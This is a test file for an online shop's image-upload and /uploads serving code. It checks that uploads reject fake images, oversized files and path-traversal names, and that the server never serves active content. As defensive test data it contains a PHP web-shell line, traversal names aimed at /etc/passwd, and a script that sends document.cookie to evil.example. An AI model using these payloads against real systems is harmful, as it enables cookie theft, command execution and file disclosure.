import { existsSync, mkdirSync, readdirSync, rmSync, statSync, writeFileSync } from "node:fs";
import path from "node:path";
import sharp from "sharp";
import request from "supertest";
import { beforeAll, beforeEach, describe, expect, it } from "vitest";
import { PopupImage } from "../../models/popup-image.model";
import { Product } from "../../models/product.model";
import { TshirtOrder } from "../../models/tshirt-order.model";
import { createApp } from "../../server/app";
import { uploadsRoot } from "../../server/lib/images";
import { clearDatabase } from "../setup/db";
import { seedCatalog } from "../factories/catalog";
import { bulkOrderFormFields } from "../factories/tshirt-order";
import { createAdmin } from "../factories/user";

const app = createApp();
let adminToken: string;
let categoryId: string;
let png: Buffer;

beforeAll(async () => {
  png = await sharp({ create: { width: 64, height: 64, channels: 3, background: "#2c3e50" } })
    .png()
    .toBuffer();
});

beforeEach(async () => {
  await clearDatabase();
  for (const entry of existsSync(uploadsRoot()) ? readdirSync(uploadsRoot()) : [])
    rmSync(path.join(uploadsRoot(), entry), { recursive: true, force: true });
  adminToken = (await createAdmin()).token;
  categoryId = String((await seedCatalog()).categories.menTees._id);
});

/** Every file under the uploads folder, relative to it. */
function uploadedFiles(dir = uploadsRoot()): string[] {
  if (!existsSync(dir)) return [];
  return readdirSync(dir).flatMap((name) => {
    const full = path.join(dir, name);
    return statSync(full).isDirectory()
      ? uploadedFiles(full)
      : [path.relative(uploadsRoot(), full)];
  });
}

interface Target {
  name: string;
  path: string;
  field: string;
  admin: boolean;
  fields: () => Record<string, string>;
  count: () => Promise<number>;
  /** The stored public paths of what was created. */
  storedPaths: () => Promise<string[]>;
}

const targets: Target[] = [
  {
    name: "POST /api/admin/products (product images)",
    path: "/api/admin/products",
    field: "images",
    admin: true,
    fields: () => ({
      title: `Upload Tee ${Math.random().toString(36).slice(2, 8)}`,
      price: "1000",
      discountedPrice: "900",
      category: categoryId,
      variants: JSON.stringify([{ color: "Black", size: "M", stock: 3 }]),
    }),
    count: () => Product.countDocuments({ title: /^Upload Tee/ }),
    storedPaths: async () =>
      (await Product.find({ title: /^Upload Tee/ }).lean()).flatMap((product) => product.images),
  },
  {
    name: "POST /api/popup-images (popup images)",
    path: "/api/popup-images",
    field: "image",
    admin: true,
    fields: () => ({ title: "Eid sale" }),
    count: () => PopupImage.countDocuments({}),
    storedPaths: async () => (await PopupImage.find({}).lean()).map((popup) => popup.imagePath),
  },
  {
    name: "POST /api/tshirt-orders (t-shirt designs)",
    path: "/api/tshirt-orders",
    field: "design",
    admin: false,
    fields: bulkOrderFormFields,
    count: () => TshirtOrder.countDocuments({}),
    storedPaths: async () =>
      (await TshirtOrder.find({}).lean()).map((order) => order.designImagePath ?? ""),
  },
];

function upload(target: Target, file: Buffer, filename: string, contentType = "image/png") {
  const call = request(app).post(target.path);
  if (target.admin) void call.set("Authorization", `Bearer ${adminToken}`);
  for (const [name, value] of Object.entries(target.fields())) void call.field(name, value);
  // `filepath` makes form-data send the name as given (its `filename` keeps only the last segment).
  return call.attach(target.field, file, { filename, filepath: filename, contentType } as never);
}

const SAFE_STORED = /^\/?uploads\/(products|popups|tshirt-designs)\/[\w-]+\.(webp|png|jpe?g|gif)$/;
const SAFE_FILE = /^(products|popups|tshirt-designs)\/[\w-]+\.(webp|png|jpe?g|gif)$/;

for (const target of targets) {
  describe(target.name, () => {
    it("refuses a text file named .png sent as image/png (415) and stores nothing", async () => {
      for (const [content, name] of [
        [Buffer.from("just some text, not an image at all\n".repeat(20)), "photo.png"],
        [
          Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
          "x.png",
        ],
        [Buffer.from("<?php system($_GET['c']); ?>".repeat(5)), "shell.php.png"],
      ] as const) {
        const answer = await upload(target, content, name);
        expect(answer.status).toBe(415);
        expect(answer.body.message).toBe("Only JPEG, PNG, WebP or GIF images are accepted");
      }
      expect(await target.count()).toBe(0);
      expect(uploadedFiles()).toEqual([]);
    });

    it("refuses a file over 5 MB (413) and stores nothing", async () => {
      const big = Buffer.concat([png, Buffer.alloc(6 * 1024 * 1024, 1)]);
      const answer = await upload(target, big, "big.png");
      expect(answer.status).toBe(413);
      expect(answer.body).toMatchObject({ message: "File too large", code: "FILE_TOO_LARGE" });
      expect(await target.count()).toBe(0);
      expect(uploadedFiles()).toEqual([]);
    });

    it("refuses traversal, NUL and very long file names (400) and writes nothing outside uploads/", async () => {
      const refused = [
        "../../etc/passwd.png",
        "..\\..\\..\\windows\\win.ini.png",
        "/etc/passwd.png",
        "images/../../escape.png",
        "tab\tname.png",
        `${"x".repeat(5000)}.png`,
      ];
      for (const name of refused) {
        const answer = await upload(target, png, name);
        expect({ name: name.slice(0, 40), status: answer.status, body: answer.body }).toMatchObject(
          {
            status: 400,
            body: { message: "Invalid file name", code: "INVALID_FILE_NAME" },
          },
        );
      }
      // A NUL in a part header makes the whole multipart body malformed: a 400 as well.
      for (const name of ["a\u0000.png", "evil.png\u0000.sh"]) {
        const answer = await upload(target, png, name);
        expect(answer.status).toBe(400);
        expect(["MALFORMED_MULTIPART", "INVALID_FILE_NAME"]).toContain(answer.body.code);
      }
      expect(await target.count()).toBe(0);
      expect(uploadedFiles()).toEqual([]);
      for (const outside of [
        path.resolve(uploadsRoot(), "../../etc/passwd.png"),
        path.resolve(uploadsRoot(), "..", "escape.png"),
        "/etc/passwd.png",
      ])
        expect(existsSync(outside)).toBe(false);
    });

    it("stores accepted images under its own random name inside uploads/, never the client's", async () => {
      const names = ["my photo (1).png", "%2e%2e%2f%2e%2e%2fescape.png", "ছবি.png"];
      for (const name of names) expect((await upload(target, png, name)).status).toBe(201);
      const stored = await target.storedPaths();
      expect(stored).toHaveLength(names.length);
      for (const storedPath of stored) {
        expect(storedPath).not.toContain("..");
        expect(storedPath).toMatch(SAFE_STORED);
        const onDisk = path.resolve(uploadsRoot(), storedPath.replace(/^\/?uploads\//, ""));
        expect(onDisk.startsWith(uploadsRoot() + path.sep)).toBe(true);
        expect(existsSync(onDisk)).toBe(true);
      }
      for (const file of uploadedFiles()) expect(file).toMatch(SAFE_FILE);
      // A stored name is never reused, so the file is served as immutable for a year.
      const served = await request(app).get(`/${stored[0].replace(/^\//, "")}`);
      expect(served.status).toBe(200);
      expect(served.headers["cache-control"]).toBe("public, max-age=31536000, immutable");
    });
  });
}

/*
 * Whatever ends up in the uploads folder (an operator's copy, a restore, a file put there by hand),
 * /uploads serves raster images only, and never as something a browser would run.
 */
describe("/uploads never serves active content", () => {
  const script = "<script>fetch('https://evil.example/?c='+document.cookie)</script>";
  const plant = (key: string, body: string | Buffer) => {
    const file = path.join(uploadsRoot(), ...key.split("/"));
    mkdirSync(path.dirname(file), { recursive: true });
    writeFileSync(file, body);
  };

  it("a file that is not a raster image is not served, even from the uploads folder", async () => {
    const planted: Record<string, string> = {
      "tshirt-designs/logo.svg": `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`,
      "tshirt-designs/page.html": `<!doctype html>${script}`,
      "tshirt-designs/page.htm": `<!doctype html>${script}`,
      "popups/feed.xml": `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`,
      "products/run.js": "alert(1)",
      "products/readme.txt": script,
    };
    for (const [key, body] of Object.entries(planted)) plant(key, body);
    for (const key of Object.keys(planted))
      for (const method of ["get", "head"] as const) {
        const answer = await request(app)[method](`/uploads/${key}`);
        expect(answer.status, `${method} ${key}`).toBe(404);
        if (method === "get")
          expect(answer.body, key).toEqual({ message: "File not found", code: "NOT_FOUND" });
      }
  });

  it("an image is served as an image only: nosniff, and sandboxed if opened as a page", async () => {
    // Bytes that are a page under an image's name (the upload checks refuse them; a copy may not).
    plant("products/trick-800.png", `<!doctype html>${script}`);
    plant("products/real-800.png", png);
    for (const key of ["products/trick-800.png", "products/real-800.png"]) {
      const answer = await request(app).get(`/uploads/${key}`);
      expect(answer.status, key).toBe(200);
      expect(answer.headers["content-type"], key).toBe("image/png");
      expect(answer.headers["x-content-type-options"], key).toBe("nosniff");
      expect(answer.headers["content-security-policy"], key).toBe("default-src 'none'; sandbox");
    }
  });
});
